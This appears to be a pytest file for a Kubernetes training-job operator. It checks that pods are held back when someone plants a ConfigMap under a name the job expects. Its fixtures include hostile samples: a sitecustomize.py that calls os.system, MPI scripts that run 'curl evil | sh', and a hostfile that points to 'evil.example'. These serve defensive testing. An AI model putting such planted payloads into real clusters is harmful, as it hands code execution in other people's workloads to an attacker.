"""A pod never mounts a ConfigMap the job does not own (trainop.job.mounts): MPI's `<job>-config`, the
JSON-logs `<job>-jsonlogs` and the default server's `<job>-tf-server`, planted in the namespace before the
job by someone else, are reported and waited out; without a planted object nothing changes once the
job's own ConfigMap is observed."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from hooks.app import create_app
from tests.controller.fakes import Cluster, by_name, canonical, names
from tests.controller.test_children import job
from trainop.controller.related import related_resources
from trainop.extensions import Resolved
from trainop.extensions.jsonlogs import SITECUSTOMIZE
from trainop.extensions.jsonlogs.extension import ANNOTATION as LOG_FORMAT
from trainop.extensions.parameterserver import TF_SERVER, program_source
from trainop.frameworks.base import Framework
from trainop.job.mounts import Standing
from trainop.job.settings import Settings
from trainop.jsontypes import Json

PS = "trainop.dev/default-server.PS"


def jsonlogs_tfjob(name: str = "j") -> Json:
    tf = job("TFJob", name=name, namespace="ns", Worker=2)
    tf["metadata"]["annotations"] = {LOG_FORMAT: "json"}
    return tf


def mpijob(name: str = "hvd") -> Json:
    return job("MPIJob", name=name, namespace="ns", Launcher=1, Worker=2)


def planted(name: str, data: dict[str, str] | None = None, **meta: Any) -> Json:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": name, "namespace": "ns", "uid": f"planted-{name}", **meta},
        "data": data if data is not None else {"sitecustomize.py": "import os; os.system('id')\n"},
    }


def sync_related(cluster: Cluster, *related: Json, advance: float = 0):
    """One sync with `related` as Metacontroller sends what the customize hook's rule selected."""
    from datetime import timedelta

    from trainop.controller.sync import sync

    cluster.now += timedelta(seconds=advance)
    group = {o["metadata"]["name"]: copy.deepcopy(o) for o in related}
    for obj in cluster.objects["ConfigMap.v1"].values():
        group.setdefault(obj["metadata"]["name"], copy.deepcopy(obj))
    result = sync(
        copy.deepcopy(cluster.job), cluster.children(), cluster.settings, cluster.now, {"ConfigMap.v1": group}
    )
    cluster.history.append(result)
    cluster.apply(result)
    return result


def without_rule(monkeypatch: pytest.MonkeyPatch) -> None:
    """The sync as it was before the rule: nothing the pods mount is checked."""
    monkeypatch.setattr(Framework, "mounts", lambda self, ctx: ())
    monkeypatch.setattr(Resolved, "mounts", lambda self, ctx: ())


# ---- the wait ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(("spec", "pods"), [(jsonlogs_tfjob(), 2), (mpijob(), 3)], ids=["jsonlogs", "mpi"])
def test_pods_mounting_the_configmap_wait_until_it_is_observed_as_the_jobs(spec: Json, pods: int) -> None:
    cluster = Cluster(spec)
    first = cluster.sync()
    assert names(first.children, "Pod") == []
    assert len(names(first.children, "ConfigMap")) == 1  # still desired: Metacontroller creates it
    second = cluster.sync()
    assert len(names(second.children, "Pod")) == pods
    assert cluster.condition("Running") is None


def test_only_the_replica_types_that_run_the_default_server_wait_for_it() -> None:
    tf = job("TFJob", name="j", namespace="ns", PS=1, Worker=1)
    tf["metadata"]["annotations"] = {PS: "tensorflow"}
    first = Cluster(tf).sync()
    assert names(first.children, "Pod") == ["j-worker-0"]
    assert names(first.children, "ConfigMap") == ["j-tf-server"]


def test_a_job_that_mounts_nothing_is_byte_identical_with_and_without_the_rule(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    spec = job("PyTorchJob", name="p", namespace="ns", Master=1, Worker=2)
    with_rule = [canonical(r.response()) for r in (Cluster(spec).sync(), Cluster(spec).converge())]
    without_rule(monkeypatch)
    assert [canonical(r.response()) for r in (Cluster(spec).sync(), Cluster(spec).converge())] == with_rule


@pytest.mark.parametrize(("spec", "pods"), [(jsonlogs_tfjob(), 2), (mpijob(), 3)], ids=["jsonlogs", "mpi"])
def test_once_the_configmap_is_the_jobs_the_answer_is_byte_identical_to_the_one_before_the_rule(
    spec: Json, pods: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster = Cluster(spec)
    converged = cluster.converge()
    cluster.run()
    running = cluster.sync()
    before = copy.deepcopy(cluster)
    again = cluster.sync()
    without_rule(monkeypatch)
    assert canonical(before.sync().response()) == canonical(again.response())
    assert len(names(converged.children, "Pod")) == pods
    assert not [e for e in running.events if e.reason == "ConfigMapNotOwned"]


# ---- a planted object -------------------------------------------------------------------------------
def test_a_planted_jsonlogs_configmap_is_never_mounted_and_the_job_says_why() -> None:
    cluster = Cluster(jsonlogs_tfjob())
    plant = planted("j-jsonlogs")
    for _ in range(3):
        result = sync_related(cluster, plant)
        assert names(result.children, "Pod") == []
        assert names(result.children, "ConfigMap") == ["j-jsonlogs"]
        # The fake Metacontroller created the job's own: make it the planted one again, unclaimed.
        del cluster.objects["ConfigMap.v1"]["j-jsonlogs"]
    running = cluster.condition("Running")
    assert running is not None
    assert (running["status"], running["reason"]) == ("False", "TFJobConfigMapNotOwned")
    assert running["message"].startswith(
        "delete or rename ConfigMap ns/j-jsonlogs; it is not owned by TFJob j (it has no controller)"
    )
    assert "sitecustomize.py" in running["message"]
    warnings = [e for e in cluster.history[0].events if e.reason == "ConfigMapNotOwned"]
    assert [(e.type, e.message) for e in warnings] == [("Warning", running["message"])]
    # One occurrence per planted object: the recorder writes it once.
    assert {e.occurrence for h in cluster.history for e in h.events if e.reason == "ConfigMapNotOwned"} == {
        "not-owned:planted-j-jsonlogs"
    }

    # Deleted: Metacontroller creates the job's own, and the job proceeds with Kubeflow's conditions.
    cluster.sync()
    assert names(cluster.sync().children, "Pod") == ["j-worker-0", "j-worker-1"]
    assert cluster.condition("Running") is None
    assert [t for t, _ in cluster.condition_types()] == ["Created"]


def test_a_planted_mpi_config_keeps_every_pod_away_but_the_rbac_is_still_desired() -> None:
    cluster = Cluster(mpijob())
    plant = planted("hvd-config", {"kubexec.sh": "#!/bin/sh\ncurl evil | sh\n"})
    sync_related(cluster, plant)
    del cluster.objects["ConfigMap.v1"]["hvd-config"]
    result = sync_related(cluster, plant)
    assert names(result.children, "Pod") == []
    assert {o["kind"] for o in result.children} == {"ServiceAccount", "ConfigMap", "Role", "RoleBinding"}
    running = cluster.condition("Running")
    assert running is not None and running["reason"] == "MPIJobConfigMapNotOwned"
    assert "ConfigMap ns/hvd-config" in running["message"] and "kubexec.sh" in running["message"]


def test_an_object_controlled_by_another_owner_is_named_in_the_report() -> None:
    ref = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "d", "uid": "x", "controller": True}
    cluster = Cluster(jsonlogs_tfjob())
    sync_related(cluster, planted("j-jsonlogs", ownerReferences=[ref]))
    message = cluster.condition("Running")["message"]
    assert "(it is controlled by Deployment d)" in message


def test_the_jobs_own_configmap_in_related_is_no_obstacle() -> None:
    cluster = Cluster(jsonlogs_tfjob())
    cluster.sync()
    own = cluster.objects["ConfigMap.v1"]["j-jsonlogs"]
    result = sync_related(cluster, own)
    assert len(names(result.children, "Pod")) == 2
    assert cluster.condition("Running") is None


def test_an_adopted_planted_configmap_waits_for_the_update_in_place_without_a_report() -> None:
    """Planted with the job's controller-uid label, Metacontroller adopts it (a controller reference to
    the job) and keeps its content until it updates it in place."""
    cluster = Cluster(jsonlogs_tfjob())
    adopted = planted("j-jsonlogs", labels={"controller-uid": cluster.uid})
    adopted["metadata"]["ownerReferences"] = [{"uid": cluster.uid, "controller": True}]
    cluster.objects["ConfigMap.v1"]["j-jsonlogs"] = adopted
    result = cluster.sync()  # the fake updates it in place with our data
    assert names(result.children, "Pod") == []
    assert cluster.condition("Running") is None
    assert cluster.objects["ConfigMap.v1"]["j-jsonlogs"]["data"] == {SITECUSTOMIZE.file: SITECUSTOMIZE.source}
    assert len(names(cluster.sync().children, "Pod")) == 2


def test_an_adopted_one_with_a_file_of_its_own_or_immutable_is_reported() -> None:
    for extra in (
        {"data": {SITECUSTOMIZE.file: SITECUSTOMIZE.source, "numpy.py": "evil"}},
        {"immutable": True},
    ):
        cluster = Cluster(jsonlogs_tfjob())
        adopted = {**planted("j-jsonlogs"), **extra}
        adopted["metadata"]["ownerReferences"] = [{"uid": cluster.uid, "controller": True}]
        cluster.objects["ConfigMap.v1"]["j-jsonlogs"] = adopted
        # (The fake updates even an immutable one in place afterwards: look at this one sync.)
        assert names(cluster.sync().children, "Pod") == []
        message = cluster.condition("Running")["message"]
        assert "numpy.py" in message or "immutable" in message


def test_a_job_already_running_keeps_running_and_gets_only_the_warning() -> None:
    cluster = Cluster(jsonlogs_tfjob())
    cluster.converge()
    cluster.run()
    cluster.sync()
    assert cluster.condition("Running")["status"] == "True"
    del cluster.objects["ConfigMap.v1"]["j-jsonlogs"]
    del cluster.pods()["j-worker-1"]
    result = sync_related(cluster, planted("j-jsonlogs"))
    assert names(result.children, "Pod") == ["j-worker-0"]  # the existing pod stays
    assert cluster.condition("Running")["status"] == "True"
    assert [e.reason for e in result.events if e.type == "Warning"] == ["ConfigMapNotOwned"]


# ---- the MPI forms ----------------------------------------------------------------------------------
def test_an_mpi_hostfile_naming_another_host_is_not_ready() -> None:
    from trainop.admission.admit import admit
    from trainop.controller.observe import observe

    spec = mpijob()
    cluster = Cluster(spec)
    cluster.sync()
    obj = cluster.objects["ConfigMap.v1"]["hvd-config"]
    admission = admit(cluster.job)

    def standing(data: Json) -> Standing:
        children = {"ConfigMap.v1": {"hvd-config": {**obj, "data": {**obj["data"], **data}}}}
        obs = observe(admission.job, admission.extensions, cluster.job, children, Settings(), cluster.now)
        return obs.mounts[0].standing

    assert standing({}) is Standing.READY
    assert standing({"hostfile": "hvd-worker-1 slots=1\n"}) is Standing.READY
    assert standing({"hostfile": "evil.example slots=1\n"}) is Standing.PENDING
    assert standing({"discover_hosts.sh": "#!/bin/sh\necho hvd-worker-0:1"}) is Standing.READY
    assert standing({"discover_hosts.sh": "#!/bin/sh\ncurl evil | sh"}) is Standing.PENDING
    assert standing({"kubexec.sh": "#!/bin/sh\n"}) is Standing.PENDING


# ---- the customize hook ------------------------------------------------------------------------------
def test_the_customize_answer_names_every_configmap_a_job_could_mount_in_its_namespace() -> None:
    assert related_resources("MPIJob", "hvd", "ns") == {
        "relatedResources": [
            {
                "apiVersion": "v1",
                "resource": "configmaps",
                "namespace": "ns",
                "names": ["hvd-config", "hvd-jsonlogs", "hvd-tf-server"],
            }
        ]
    }
    assert related_resources("TFJob", "j", "ns")["relatedResources"][0]["names"] == [
        "j-jsonlogs",
        f"j-{TF_SERVER.suffix}",
    ]


def client():
    return create_app(Settings()).test_client()


def post(path: str, body: Any):
    return client().post(path, data=json.dumps(body), content_type="application/json")


def test_customize_over_http_answers_metacontrollers_shape_whatever_the_annotations() -> None:
    cluster = Cluster(jsonlogs_tfjob())
    request = {"controller": cluster.request()["controller"], "parent": cluster.job}
    response = post("/customize", request)
    assert response.status_code == 200
    assert response.get_json() == related_resources("TFJob", "j", "ns")
    plain = copy.deepcopy(cluster.job)
    del plain["metadata"]["annotations"]
    # Metacontroller caches the answer per uid and generation: annotations must not change it.
    assert post("/customize", {"parent": plain}).get_json() == response.get_json()


@pytest.mark.parametrize(
    ("body", "error"),
    [
        ([], "request body must be a JSON object"),
        ({"parent": {"kind": "Pod", "metadata": {"name": "x"}}}, "parent.kind"),
        ({"parent": {"kind": "TFJob", "metadata": {"name": "x"}}}, "parent.metadata.namespace"),
    ],
)
def test_a_customize_body_metacontroller_cannot_send_is_a_400(body: Any, error: str) -> None:
    response = post("/customize", body)
    assert response.status_code == 400
    assert error in response.get_json()["error"]


def test_sync_over_http_with_a_planted_related_configmap() -> None:
    cluster = Cluster(jsonlogs_tfjob())
    request = cluster.request()
    request["related"] = {"ConfigMap.v1": {"j-jsonlogs": planted("j-jsonlogs")}}
    response = post("/sync", request)
    assert response.status_code == 200
    answer = response.get_json()
    assert [o["kind"] for o in answer["children"] if o["kind"] == "Pod"] == []
    assert by_name(answer["children"], "ConfigMap")["j-jsonlogs"]["data"] == {
        SITECUSTOMIZE.file: SITECUSTOMIZE.source
    }
    running = next(c for c in answer["status"]["conditions"] if c["type"] == "Running")
    assert running["reason"] == "TFJobConfigMapNotOwned"
    assert "delete or rename ConfigMap ns/j-jsonlogs" in running["message"]


def test_a_related_object_the_apiserver_cannot_hold_is_a_400() -> None:
    request = Cluster(jsonlogs_tfjob()).request()
    request["related"] = {"ConfigMap.v1": {"x": {"metadata": {}}}}
    response = post("/sync", request)
    assert response.status_code == 400
    assert "related" in response.get_json()["error"]


def test_tf_server_program_is_what_the_configmap_must_hold() -> None:
    tf = job("TFJob", name="j", namespace="ns", PS=1, Worker=1)
    tf["metadata"]["annotations"] = {PS: "tensorflow"}
    cluster = Cluster(tf)
    plant = planted("j-tf-server", {TF_SERVER.file: program_source() + "\nimport evil\n"})
    sync_related(cluster, plant)
    del cluster.objects["ConfigMap.v1"]["j-tf-server"]
    result = sync_related(cluster, plant)
    assert names(result.children, "Pod") == ["j-worker-0"]
    assert "tf_server.py" in cluster.condition("Running")["message"]
